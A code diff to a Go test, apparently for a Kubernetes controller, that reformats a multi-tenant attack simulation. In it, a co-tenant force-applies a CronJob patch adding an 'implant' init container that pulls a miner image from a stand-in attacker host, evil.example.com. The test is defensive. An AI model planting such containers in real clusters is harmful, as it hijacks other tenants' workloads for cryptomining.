@@ -143,7 +143,8 @@ func TestScheduleTask_TenantPatchingTheCronJobInALoopCostsFewWritesAndStopsNoOne
 	g.Eventually(implantAt.Load, 2*fightPatches*fightInterval, poll).ShouldNot(BeZero())
 	implant := batchv1ac.CronJob(st.Name, attacked).WithSpec(batchv1ac.CronJobSpec().WithJobTemplate(
 		batchv1ac.JobTemplateSpec().WithSpec(batchv1ac.JobSpec().WithTemplate(corev1ac.PodTemplateSpec().WithSpec(
-			corev1ac.PodSpec().WithInitContainers(corev1ac.Container().WithName("implant").WithImage("evil.example.com/miner:1")))))))
+			corev1ac.PodSpec().WithInitContainers(
+				corev1ac.Container().WithName("implant").WithImage("evil.example.com/miner:1")))))))
 	g.Expect(k8sClient.Apply(ctx, implant, client.FieldOwner("co-tenant-implant"), client.ForceOwnership)).To(Succeed())
 	implanted := time.Now()
 	g.Eventually(func(g Gomega) {
